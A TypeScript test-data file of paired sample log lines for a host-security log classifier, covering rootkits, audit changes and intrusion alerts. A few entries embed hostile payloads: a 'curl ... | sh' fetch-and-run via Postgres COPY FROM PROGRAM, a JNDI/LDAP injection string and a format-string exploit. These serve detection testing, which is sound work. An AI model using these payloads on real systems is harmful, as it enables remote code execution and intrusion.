import type { Examples } from "./example.ts";
import { lines } from "./log-line.ts";

const kernel = (text: string) => `kernel: ${text}`;
const crash = (at: string, ip: string) =>
  kernel(`httpd[4100]: segfault at ${at} ip ${ip} sp bffff1a0 error 4`);
const avc = (name: string) =>
  kernel(`audit: avc:  denied  { execute } for  pid=1 comm="httpd" name="${name}"`);
const alert = (kind: string) =>
  `snort[925]: [1:2019401:3] rule [Classification: ${kind}] [Priority: 1] {TCP} 10.1.0.9 -> 10.1.0.4`;

/** What the kernel, services, package managers and checks say. */
export const LOGS_HOST_EXAMPLES: Examples = {
  "logs.card-hears-everything": lines(
    kernel("device eth0 entered promiscuous mode"),
    kernel("device veth31a5 entered promiscuous mode"),
  ),
  "logs.module-from-outside": lines(
    kernel("rk: loading out-of-tree module taints kernel."),
    "packer: wrote static/js/taint.js",
  ),
  "logs.driver-from-outside": lines(
    kernel("nvidia: module license 'NVIDIA' taints kernel."),
    kernel("nvidia 0000:01:00.0: enabling device"),
  ),
  "logs.audit-switched-off": lines(
    kernel("audit: audit_enabled=0 old=1 auid=1000 ses=4 res=1"),
    kernel("audit: audit_enabled=1 old=0 auid=1000 ses=4 res=1"),
  ),
  "logs.audit-switched-on": lines(
    kernel("audit: audit_enabled=1 old=0 auid=1000 ses=4 res=1"),
    kernel("audit: audit_enabled=0 old=1 auid=1000 ses=4 res=1"),
  ),
  "logs.enforcement-off": lines(
    kernel("audit: type=1404 enforcing=0 old_enforcing=1 auid=0 ses=1"),
    kernel("audit: type=1404 enforcing=1 old_enforcing=0 auid=0 ses=1"),
  ),
  "logs.enforcement-on": lines(
    "dbus-daemon[523]: avc: received setenforce notice (enforcing=1)",
    "dbus-daemon[523]: avc: received setenforce notice (enforcing=0)",
  ),
  "logs.logger-stopped": lines(
    'rsyslogd: [origin software="rsyslogd"] exiting on signal 15.',
    'rsyslogd: [origin software="rsyslogd"] start',
  ),
  "logs.guard-stopped": lines(
    "systemd[1]: Stopped Security Auditing Service.",
    "systemd[1]: Started Security Auditing Service.",
  ),
  "logs.device-stored": lines(
    kernel("usb-storage 2-1:1.0: USB Mass Storage device detected"),
    kernel("usbcore: registered new interface driver usb-storage"),
  ),
  "logs.device-typing": lines(
    kernel("usb 1-1: Product: Rubber Ducky"),
    kernel("usb 1-1: Product: USB Keyboard"),
  ),
  "logs.device-attached": lines(
    kernel("usb 1-1: Product: USB Keyboard"),
    kernel("usb 1-1: USB disconnect, device number 4"),
  ),
  "logs.crashed-where-led": lines(crash("41414141", "41414141"), crash("0", "00007f31a5c0")),
  "logs.crashed": lines(crash("0", "00007f31a5c0"), kernel("Spectre V2 : exploit mitigations")),
  "logs.powered-down": lines(
    "systemd-logind[512]: System is powering down.",
    "systemd-logind[512]: Power key pressed short.",
  ),
  "logs.attack-reported": lines(
    "sshd[997]: fatal: Local: crc32 compensation attack: network attack detected",
    "sshd[997]: Corrupted MAC on input. [preauth]",
  ),
  "logs.name-does-not-resolve": lines(
    "sshd[998]: reverse mapping checking getaddrinfo for x.example.com [198.51.100.4] failed - POSSIBLE BREAK-IN ATTEMPT!",
    "sshd[998]: Corrupted MAC on input. [preauth]",
  ),
  "logs.client-knocks": lines(
    "sshd[999]: Did not receive identification string from 198.51.100.4 port 5",
    "sshd[999]: Server listening on 0.0.0.0 port 22.",
  ),
  "logs.service-name-attacked": lines(
    "rpc.statd[351]: gethostbyname error for ^X^X^Y^Y%8x%8x%62716x%hn",
    "rpc.statd[351]: Version 1.3.0 starting",
  ),
  "logs.api-of-docker-opened": lines(
    'dockerd[700]: msg="API listen on [::]:2375"',
    'dockerd[700]: msg="API listen on /var/run/docker.sock"',
  ),
  "logs.address-banned": lines(
    "fail2ban.actions[80]: NOTICE [sshd] Ban 198.51.100.4",
    "fail2ban.actions[80]: NOTICE [sshd] Unban 198.51.100.4",
  ),
  "logs.rootkit-seen": lines(
    "ossec: Rootkit 'Adore' detected by the presence of file '/dev/.shit/red.tgz'.",
    "rkhunter: Rootkit checks: Rootkits checked: 498, possible rootkits: 0",
  ),
  "logs.schedule-or-rights-file-changed": lines(
    "ossec: New file '/etc/cron.hourly/.kd' added to the file system.",
    "ossec: New file '/srv/app/today.csv' added to the file system.",
  ),
  "logs.system-program-changed": lines(
    "ossec: Integrity checksum changed for: '/usr/sbin/sshd'",
    "ossec: Integrity checksum changed for: '/srv/app/today.csv'",
  ),
  "logs.guard-uninstalled": lines(
    "dpkg: status removed auditd:amd64 1:2.8.5",
    "dpkg: status installed auditd:amd64 1:2.8.5",
  ),
  "logs.attack-tool-installed": lines(
    "yum[8111]: Installed: nmap-ncat-7.50-1.x86_64",
    "yum[8111]: Erased: nmap-ncat-7.50-1.x86_64",
  ),
  "logs.shell-refused-to-service": lines(avc("bash"), avc("convert")),
  "logs.refused-by-rule": lines(
    avc("convert"),
    kernel('audit: type=1400 apparmor="STATUS" operation="profile_load"'),
  ),
  "logs.malware-in-mail": lines(
    "amavis[701]: (701-1) Blocked INFECTED (Eicar) {DiscardedInbound}, [203.0.113.9]",
    "amavis[701]: (701-1) Passed CLEAN {RelayedInbound}, [10.1.0.9]",
  ),
  "logs.malware-found": lines(
    "clamd[702]: /srv/ftp/a.zip: Win.Test.EICAR_HDB-1 FOUND",
    "clamd[702]: SelfCheck: Database status OK.",
  ),
  "logs.relay-refused": lines(
    "postfix/smtpd[991]: NOQUEUE: reject: RCPT from unknown[203.0.113.2]: 454 Relay access denied",
    "postfix/smtpd[991]: connect from unknown[203.0.113.2]",
  ),
  "logs.intrusion-seen": lines(
    alert("Attempted Administrator Privilege Gain"),
    alert("Misc activity"),
  ),
  "logs.scan-seen": lines(alert("Detection of a Network Scan"), alert("Not Suspicious Traffic")),
  "logs.database-runs-command": lines(
    "postgres[900]: LOG: statement: COPY t FROM PROGRAM 'curl 203.0.113.2/p|sh'",
    "postgres[900]: LOG: statement: COPY t FROM STDIN",
  ),
  "logs.database-reads-files": lines(
    "mysqld[904]: Query SELECT load_file('/etc/hosts')",
    "mysqld[904]: Query SELECT name FROM files",
  ),
  "logs.lookup-in-line": lines(
    "java: Reconnecting to $\u007bjndi:ldap://198.51.100.5:1389/a}",
    "java: Reconnecting to ldap://198.51.100.5:1389/a",
  ),
};
